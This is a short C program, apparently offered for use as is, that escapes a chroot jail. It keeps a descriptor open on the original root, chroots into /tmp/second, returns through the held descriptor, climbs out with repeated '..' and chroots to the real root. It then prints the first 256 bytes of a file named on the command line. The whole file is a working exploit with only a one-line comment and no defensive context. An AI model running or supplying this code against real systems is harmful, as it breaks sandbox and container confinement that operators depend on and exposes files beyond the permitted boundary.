// Leaves a chroot(2) by way of a folder that stays open outside of a second one: escape FILE, which is then printed.

#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char **words) {
    if (count != 2) return 2;
    int top = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/second", 0700);
    if (chroot("/tmp/second") < 0 || fchdir(top) < 0) return 1;
    for (int step = 0; step < 64; step++)
        if (chdir("..") < 0) return 1;
    if (chroot(".") < 0) return 1;
    char text[256];
    int file = open(words[1], O_RDONLY);
    ssize_t length = file < 0 ? 0 : read(file, text, sizeof text);
    return length > 0 && write(1, text, (size_t)length) == length ? 0 : 1;
}
